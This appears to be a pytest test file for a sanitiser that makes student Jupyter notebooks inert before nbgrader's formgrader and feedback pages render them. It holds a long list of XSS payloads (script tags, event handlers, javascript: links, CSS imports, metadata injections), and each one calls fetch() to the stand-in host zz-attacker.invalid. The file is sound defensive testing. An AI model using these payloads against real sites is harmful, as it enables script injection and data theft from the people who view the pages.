"""SafeForPages: what formgrader and the feedback page render of a student's notebook is inert.

Each vector below is something a student can put into their notebook (an output their code
displays, a markdown or raw cell, an output's metadata). After the pass, the notebook is
rendered with the templates nbgrader uses (formgrader's and the feedback page's), and the
HTML is read as a browser would: no element or attribute of the student's may run script or
make a request. (The browser itself is in tests/test_browser_hostile.py.)
"""
from __future__ import annotations

import base64

import nbformat
import pytest
from nbformat.v4 import (
    new_code_cell,
    new_markdown_cell,
    new_notebook,
    new_output,
    new_raw_cell,
)
from pages import live

from autograder.instructor.passes.safe_for_pages import SafeForPages, as_text

HTML_VECTORS = [
    "<script>fetch('//zz-attacker.invalid/s')</script>",
    "<img src=x onerror=\"fetch('//zz-attacker.invalid/i')\">",
    "<svg onload=\"fetch('//zz-attacker.invalid/v')\"><circle r=5 /></svg>",
    "<iframe src='//zz-attacker.invalid/f'></iframe>",
    "<meta http-equiv='refresh' content='0;url=//zz-attacker.invalid/m'>",
    "<base href='//zz-attacker.invalid/'>",
    "<a href='javascript:fetch(`//zz-attacker.invalid/a`)'>click</a>",
    "<div style=\"background:url('//zz-attacker.invalid/c')\">styled</div>",
    "<style>@import url('//zz-attacker.invalid/css');</style>",
    "<link rel=stylesheet href='//zz-attacker.invalid/l.css'>",
    "<object data='//zz-attacker.invalid/o'></object><embed src='//zz-attacker.invalid/e'>",
    "<form action='//zz-attacker.invalid/form'><input autofocus onfocus=\"fetch('//zz-attacker.invalid/x')\"></form>",
    "<details open ontoggle=\"fetch('//zz-attacker.invalid/d')\">x</details>",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"fetch('//zz-attacker.invalid/mx')\">",
    "<img src='//zz-attacker.invalid/plain.png'>",
]
MARKDOWN_VECTORS = HTML_VECTORS + [
    "[click](javascript:fetch('//zz-attacker.invalid/md'))",
    "![tracker](http://zz-attacker.invalid/track.png)",
    "$\\href{javascript:fetch('//zz-attacker.invalid/tex')}{x}$",
    "```\n```\n<script>fetch('//zz-attacker.invalid/fence')</script>",
]
PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"\x00" * 20).decode()


def _output(mime: str, value, metadata=None, kind="display_data"):
    out = new_output(kind, data={mime: value, "text/plain": "fallback text"}, metadata=metadata or {})
    if kind == "execute_result":
        out.execution_count = 1
    return out


def hostile_notebook():
    outputs = [_output("text/html", v) for v in HTML_VECTORS] + [
        _output("application/javascript", "fetch('//zz-attacker.invalid/js')"),
        _output("image/svg+xml", "<svg xmlns='http://www.w3.org/2000/svg' onload=\"fetch('//zz-attacker.invalid/svg')\"/>"),
        _output("text/latex", "$\\href{javascript:fetch('//zz-attacker.invalid/latex')}{x}$"),
        _output("text/markdown", "[x](javascript:fetch('//zz-attacker.invalid/mdout'))"),
        _output("application/vnd.jupyter.widget-view+json", {"model_id": "x", "version_major": 2}),
        _output("image/png", "x\" onerror=\"fetch('//zz-attacker.invalid/png')"),
        _output("image/png", PNG, {"image/png": {"width": "1 onerror=fetch('//zz-attacker.invalid/w')",
                                                 "height": 10}}),
        _output("text/html", "<b>bold</b> and <table><tr><td>a table</td></tr></table>", kind="execute_result"),
    ]
    code = new_code_cell("display(...)", outputs=outputs)
    code.execution_count = "<img src=x onerror=\"fetch('//zz-attacker.invalid/count')\">"
    cells = [code] + [new_markdown_cell(v) for v in MARKDOWN_VECTORS]
    cells += [new_raw_cell(v) for v in HTML_VECTORS[:3]]
    raw = new_raw_cell("<script>fetch('//zz-attacker.invalid/raw')</script>")
    raw.metadata["raw_mimetype"] = "text/html"
    cells.append(raw)
    lesson = new_markdown_cell("## The instructor's heading\n\nWith *emphasis* and $x^2$.")
    lesson.metadata["nbgrader"] = {"grade": False, "solution": False, "locked": True, "grade_id": "intro",
                                   "schema_version": 3}
    cells.append(lesson)
    nb = new_notebook()
    nb.cells = cells  # (not validated: a student's notebook need not be valid)
    return nb


def render(nb, template: str) -> str:
    import os

    import nbgrader
    from nbconvert import HTMLExporter

    from autograder.instructor.passes.feedback_exporter import FeedbackExporter

    formgrader = os.path.join(os.path.dirname(nbgrader.__file__), "server_extensions", "formgrader")
    paths = dict(template_name=template, extra_template_basedirs=[os.path.join(formgrader, "templates")],
                 extra_template_paths=[os.path.join(formgrader, "static", "node_modules", "bootstrap", "dist", "css")])
    exporter = FeedbackExporter(**paths) if template == "feedback" else HTMLExporter(**paths)
    resources = {"nbgrader": {"notebook": "nb", "score": 0, "max_score": 1, "late_penalty": 0}, "index": 0, "total": 1,
                 "notebook_id": "nb", "assignment_id": "a", "base_url": ""}
    html, _ = exporter.from_notebook_node(nb, resources=resources)
    return html


@pytest.mark.parametrize("template", ["classic", "lab"])
def test_nothing_a_student_wrote_is_live_after_the_pass(template):
    safe, _ = SafeForPages().preprocess(hostile_notebook(), {})
    nbformat.validate(safe)
    baseline = render(new_notebook(), template)
    assert live(render(safe, template), baseline) == []
    # and without the pass, the vectors are live: the check can fail
    unsafe = hostile_notebook()
    unsafe.cells[0].execution_count = 1  # (nbconvert refuses to render the forged count at all)
    assert len(live(render(unsafe, template), baseline)) > 10


def test_the_feedback_page_is_inert_too():
    """nbgrader's feedback template (formgrader's page is checked in the browser)."""
    safe, _ = SafeForPages().preprocess(hostile_notebook(), {})
    assert live(render(safe, "feedback"), render(new_notebook(), "feedback")) == []


def test_content_still_shows():
    safe, _ = SafeForPages().preprocess(hostile_notebook(), {})
    code = safe.cells[0]
    assert code.execution_count is None
    kinds = [sorted(o.data) for o in code.outputs]
    assert all("text/plain" in k for k in kinds)  # every output keeps its text
    assert ["image/png", "text/plain"] in kinds  # a real image stays, with a numeric size only
    assert code.outputs[-2].metadata == {"image/png": {"height": 10}}
    assert code.outputs[-1].output_type == "execute_result"
    assert code.outputs[-1].data["text/html"] == "<b>bold</b> and <table><tbody><tr><td>a table</td></tr></tbody></table>"
    assert "&lt;script&gt;" in code.outputs[0].data["text/html"]  # shown as text: the instructor sees the try
    students = [c for c in safe.cells if c.cell_type == "markdown" and "nbgrader" not in c.metadata]
    assert len(students) == len(MARKDOWN_VECTORS) + 4 and all(c.source.startswith("```") for c in students)
    assert safe.cells[-1].source.startswith("## The instructor's heading")  # the lesson's prose renders
    html = render(safe, "lab")
    assert "<h2" in html and "The instructor" in html
    assert "&lt;script&gt;fetch('//zz-attacker.invalid/fence')&lt;/script&gt;" in html


def test_the_pass_can_run_twice():
    once, _ = SafeForPages().preprocess(hostile_notebook(), {})
    twice, _ = SafeForPages().preprocess(nbformat.from_dict(once), {})
    assert twice == once


@pytest.mark.parametrize("text", ["plain", "with ``` fences ````", "`", "ends with fence\n```"])
def test_a_student_text_is_one_code_block(text):
    from nbconvert.filters import markdown2html

    html = markdown2html(as_text(text))
    assert html.count("<pre") == 1 and text.splitlines()[-1] in html
